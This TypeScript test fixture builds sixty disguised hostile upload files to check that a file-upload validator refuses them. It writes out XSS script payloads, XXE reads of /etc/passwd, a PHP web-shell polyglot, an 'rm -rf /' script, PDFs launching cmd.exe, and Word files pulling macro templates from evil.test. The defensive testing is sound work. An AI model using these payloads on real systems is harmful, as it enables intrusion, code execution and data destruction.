import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import type { FileRefusal } from '../refusal.ts';
import { office, outsideRelation } from './office-builder.ts';
import { buildZip } from './zip-builder.ts';

export interface HostileFile {
  what: string;
  /** As the sender calls it: nearly always a lie. */
  name: string;
  bytes: () => Buffer | Promise<Buffer>;
  reason: FileRefusal;
}

const text = (content: string): Buffer => Buffer.from(content, 'utf8');
const raw = (content: string): Buffer => Buffer.from(content, 'latin1');
const script = '<script>alert(document.domain)</script>';
const plain = { create: { width: 64, height: 48, channels: 3, background: '#2a6' } } as const;
export const jpeg = (): Promise<Buffer> => sharp(plain).jpeg().toBuffer();
export const png = (): Promise<Buffer> => sharp(plain).png().toBuffer();
export const gif = (): Promise<Buffer> => sharp(plain).gif().toBuffer();
export const webp = (): Promise<Buffer> => sharp(plain).webp().toBuffer();

export function pdf(objects: string, tail = ''): Buffer {
  return raw(
    `%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n${objects}\ntrailer\n<< /Root 1 0 R ${tail} >>\nstartxref\n9\n%%EOF\n`,
  );
}

function objectStream(content: string, name = '/ObjStm'): string {
  const packed = deflateSync(raw(content)).toString('latin1');
  return `5 0 obj\n<< /Type ${name} /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj`;
}

/** A PNG whose header promises a size that its body does not have. */
function pngOfSize(width: number, height: number): Buffer {
  const header = Buffer.alloc(25);
  header.writeUInt32BE(13, 0);
  header.write('IHDR', 4, 'latin1');
  header.writeUInt32BE(width, 8);
  header.writeUInt32BE(height, 12);
  header.set([8, 2, 0, 0, 0], 16);
  return Buffer.concat([
    raw('\x89PNG\r\n\x1a\n'),
    withCrc(header),
    chunk('IDAT', deflateSync(Buffer.alloc(1_000))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function chunk(type: string, data: Buffer): Buffer {
  const bytes = Buffer.alloc(12 + data.length);
  bytes.writeUInt32BE(data.length, 0);
  bytes.write(type, 4, 'latin1');
  data.copy(bytes, 8);
  return withCrc(bytes);
}

function withCrc(bytes: Buffer): Buffer {
  let crc = ~0;
  for (const byte of bytes.subarray(4, -4)) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  bytes.writeUInt32BE(~crc >>> 0, bytes.length - 4);
  return bytes;
}

const after = (image: () => Promise<Buffer>, content: string) => async () => Buffer.concat([await image(), text(content)]);
const box = (type: string, body: Buffer): Buffer => {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(body.length + 8, 0);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, body]);
};

const markup: HostileFile[] = [
  {
    what: 'SVG with a script',
    name: '照片.jpg',
    bytes: () => text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
    reason: 'markup',
  },
  {
    what: 'SVG behind an XML declaration',
    name: 'a.png',
    bytes: () => text(`<?xml version="1.0"?><svg onload="alert(1)"/>`),
    reason: 'markup',
  },
  { what: 'SVG behind a comment and blanks', name: 'a.svg', bytes: () => text('\n \t<!-- x --><svg/>'), reason: 'markup' },
  { what: 'SVG in UTF-16', name: 'a.txt', bytes: () => Buffer.from('\ufeff<svg onload="alert(1)"/>', 'utf16le'), reason: 'markup' },
  { what: 'SVGZ', name: 'a.svgz', bytes: () => gzipSync(`<svg>${script}</svg>`), reason: 'archive' },
  { what: 'HTML', name: '说明.html', bytes: () => text(`<!DOCTYPE html><html><body>${script}`), reason: 'markup' },
  { what: 'HTML called a picture', name: 'a.jpeg', bytes: () => text(`<html>${script}</html>`), reason: 'markup' },
  { what: 'HTML behind a byte order mark, called text', name: 'a.txt', bytes: () => text(`\ufeff<body>${script}`), reason: 'markup' },
  {
    what: 'XML with an outside entity',
    name: 'a.csv',
    bytes: () => text('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
    reason: 'markup',
  },
  { what: 'MHTML-like text with a NUL', name: 'a.txt', bytes: () => text('MIME-Version: 1.0\0<html>'), reason: 'type_not_allowed' },
];

const polyglots: HostileFile[] = [
  { what: 'JPEG + HTML', name: 'a.jpg', bytes: after(jpeg, `<html>${script}</html>`), reason: 'disguised' },
  { what: 'PNG + HTML', name: 'a.png', bytes: after(png, script), reason: 'disguised' },
  { what: 'WebP + SVG', name: 'a.webp', bytes: after(webp, '<svg onload=alert(1)>'), reason: 'disguised' },
  { what: 'GIF + PHP', name: 'a.gif', bytes: after(gif, '<?php system($_GET[0]); ?>'), reason: 'disguised' },
  {
    what: 'JPEG with HTML in a comment segment',
    name: 'a.jpg',
    bytes: async () => Buffer.concat([raw('\xff\xd8\xff\xfe\x00\x12<script>x//</'), (await jpeg()).subarray(2)]),
    reason: 'disguised',
  },
  {
    what: 'PNG with a script in a text chunk',
    name: 'a.png',
    bytes: async () =>
      Buffer.concat([(await png()).subarray(0, -12), chunk('tEXt', text(`Comment\0${script}`)), chunk('IEND', Buffer.alloc(0))]),
    reason: 'disguised',
  },
  {
    what: 'GIF + JavaScript (GIF89a/*)',
    name: 'a.gif',
    bytes: () => raw('GIF89a/*\x0a\x00\x00\x00\x00,\x00\x00;*/=1;alert(1)'),
    reason: 'disguised',
  },
  {
    what: 'JPEG + JavaScript (segment of length /*)',
    name: 'a.jpg',
    bytes: () => Buffer.concat([raw('\xff\xd8\xff\xe0/*JFIF'), Buffer.alloc(12_068), raw('*/=alert(1);/*\xff\xd9*/')]),
    reason: 'disguised',
  },
  {
    what: 'PDF + ZIP',
    name: 'a.pdf',
    bytes: () => Buffer.concat([pdf(''), buildZip([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: X' }]), raw('\n%%EOF')]),
    reason: 'disguised',
  },
  { what: 'PDF that is a web page first', name: 'a.pdf', bytes: () => Buffer.concat([text('<!doctype html>'), pdf('')]), reason: 'markup' },
];

const programs: HostileFile[] = [
  {
    what: 'Windows program called a picture',
    name: 'photo.jpg.exe',
    bytes: () => raw(`MZ\x90\x00\x03${'\0'.repeat(200)}PE`),
    reason: 'executable',
  },
  { what: 'Linux program', name: 'a.pdf', bytes: () => raw(`\x7fELF\x02\x01\x01${'\0'.repeat(60)}`), reason: 'executable' },
  { what: 'Java class', name: 'a.png', bytes: () => raw('\xca\xfe\xba\xbe\x00\x00\x00\x34'), reason: 'executable' },
  { what: 'macOS program', name: 'a', bytes: () => raw('\xcf\xfa\xed\xfe\x07\x00\x00\x01'), reason: 'executable' },
  { what: 'shell script called text', name: 'a.txt', bytes: () => text('#!/bin/sh\nrm -rf /\n'), reason: 'executable' },
  { what: 'WebAssembly', name: 'a.mp3', bytes: () => raw('\0asm\x01\0\0\0'), reason: 'executable' },
  {
    what: 'Windows shortcut',
    name: '通知.pdf.lnk',
    bytes: () => raw('L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F'),
    reason: 'executable',
  },
  { what: 'gzip', name: 'a.jpg', bytes: () => gzipSync('x'), reason: 'archive' },
  { what: '7-Zip', name: 'a.docx', bytes: () => raw('7z\xbc\xaf\x27\x1c\x00\x04'), reason: 'archive' },
  { what: 'RAR', name: 'a.png', bytes: () => raw('Rar!\x1a\x07\x01\x00'), reason: 'archive' },
  {
    what: 'TAR',
    name: 'a.txt',
    bytes: () => Buffer.concat([raw('x.sh'), Buffer.alloc(253), raw('ustar\x0000'), Buffer.alloc(250)]),
    reason: 'archive',
  },
  { what: 'bare ZIP called a document', name: 'a.docx', bytes: () => buildZip([{ name: 'run.exe', data: 'MZ' }]), reason: 'archive' },
  {
    what: 'Java archive',
    name: 'a.xlsx',
    bytes: () => buildZip([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: X' }]),
    reason: 'archive',
  },
  { what: 'old Excel with macros', name: 'a.xls', bytes: () => raw('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0'), reason: 'legacy_office' },
];

const activePdf: HostileFile[] = [
  {
    what: 'PDF with JavaScript',
    name: 'a.pdf',
    bytes: () => pdf('3 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj'),
    reason: 'active_pdf',
  },
  {
    what: 'PDF with JavaScript in escapes',
    name: 'a.pdf',
    bytes: () => pdf('3 0 obj\n<< /S /J#61v#61Script /J#53 (x) >>\nendobj'),
    reason: 'active_pdf',
  },
  {
    what: 'PDF with JavaScript in an object stream',
    name: 'a.pdf',
    bytes: () => pdf(objectStream('6 0 << /OpenAction << /S /JavaScript /JS (x) >> >>')),
    reason: 'active_pdf',
  },
  {
    what: 'PDF with an object stream in escapes',
    name: 'a.pdf',
    bytes: () => pdf(objectStream('6 0 << /S /Launch /F (calc.exe) >>', '/Obj#53tm')),
    reason: 'active_pdf',
  },
  {
    what: 'PDF that launches a program',
    name: 'a.pdf',
    bytes: () => pdf('3 0 obj\n<< /S /Launch /Win << /F (cmd.exe) >> >>\nendobj'),
    reason: 'active_pdf',
  },
  { what: 'PDF with actions on pages', name: 'a.pdf', bytes: () => pdf('3 0 obj\n<< /AA << /O 4 0 R >> >>\nendobj'), reason: 'active_pdf' },
  {
    what: 'PDF with an XFA form',
    name: 'a.pdf',
    bytes: () => pdf('3 0 obj\n<< /XFA [ (template) 4 0 R ] >>\nendobj'),
    reason: 'active_pdf',
  },
  {
    what: 'PDF that sends a form',
    name: 'a.pdf',
    bytes: () => pdf('3 0 obj\n<< /S /SubmitForm /F (http://x.test) >>\nendobj'),
    reason: 'active_pdf',
  },
  {
    what: 'PDF with an object stream bomb',
    name: 'a.pdf',
    bytes: () => pdf(objectStream('0'.repeat(40 * 1_048_576))),
    reason: 'active_pdf',
  },
  { what: 'PDF cut off', name: 'a.pdf', bytes: () => pdf('').subarray(0, 40), reason: 'broken' },
];

const pictures: HostileFile[] = [
  { what: 'PNG of 50,000 × 50,000', name: 'a.png', bytes: () => pngOfSize(50_000, 50_000), reason: 'too_many_pixels' },
  { what: 'PNG of 2,000,000,000 × 1', name: 'a.png', bytes: () => pngOfSize(2_000_000_000, 1), reason: 'broken' },
  { what: 'PNG with less data than promised', name: 'a.png', bytes: () => pngOfSize(3_000, 3_000), reason: 'broken' },
  { what: 'JPEG cut in the middle', name: 'a.jpg', bytes: async () => (await jpeg()).subarray(0, 200), reason: 'broken' },
  {
    what: 'JPEG in name and first bytes only',
    name: 'a.jpg',
    bytes: () => Buffer.concat([raw('\xff\xd8\xff\xe0'), Buffer.alloc(500, 7)]),
    reason: 'broken',
  },
  { what: 'TIFF', name: 'a.jpg', bytes: () => sharp(plain).tiff().toBuffer(), reason: 'type_not_allowed' },
  {
    what: 'HEIC',
    name: 'IMG_0001.jpg',
    bytes: () => Buffer.concat([box('ftyp', raw('heic\0\0\0\0mif1heic')), Buffer.alloc(100)]),
    reason: 'heic',
  },
  {
    what: 'MP4 whose boxes do not add up',
    name: 'a.mp4',
    bytes: () => Buffer.concat([box('ftyp', raw('isom\0\0\0\0isom')), raw('\x7f\xff\xff\xffmoov')]),
    reason: 'broken',
  },
];

const documents: HostileFile[] = [
  {
    what: 'Word with macros',
    name: 'a.docx',
    bytes: () => office('docx', [], 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    reason: 'macros',
  },
  {
    what: 'Excel with a hidden macro part',
    name: 'a.xlsx',
    bytes: () => office('xlsx', [{ name: 'xl/vbaProject.bin', data: 'x' }]),
    reason: 'macros',
  },
  {
    what: 'PowerPoint with a control',
    name: 'a.pptx',
    bytes: () => office('pptx', [{ name: 'ppt/activeX/activeX1.bin', data: 'x' }]),
    reason: 'macros',
  },
  {
    what: 'Word that fetches its template from the network',
    name: 'a.docx',
    bytes: () => office('docx', [outsideRelation('word/_rels/settings.xml.rels', 'attachedTemplate', 'http://evil.test/a.dotm')]),
    reason: 'macros',
  },
  {
    what: 'Word that fetches an object from a file server',
    name: 'a.docx',
    bytes: () => office('docx', [outsideRelation('word/_rels/document.xml.rels', 'oleObject', '\\\\evil\\share\\a')]),
    reason: 'macros',
  },
  {
    what: 'Word with a document type',
    name: 'a.docx',
    bytes: () => office('docx', [{ name: 'word/x.xml', data: '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x/>' }]),
    reason: 'xml_declarations',
  },
  { what: 'text of the wrong bytes', name: 'a.csv', bytes: () => raw('a,b\n\xff\xff\xff\xff'), reason: 'type_not_allowed' },
  { what: 'an empty file', name: 'a.jpg', bytes: () => Buffer.alloc(0), reason: 'empty' },
];

/** Sixty files that must not get in (reliability F24). */
export const hostileFiles: HostileFile[] = [...markup, ...polyglots, ...programs, ...activePdf, ...pictures, ...documents];
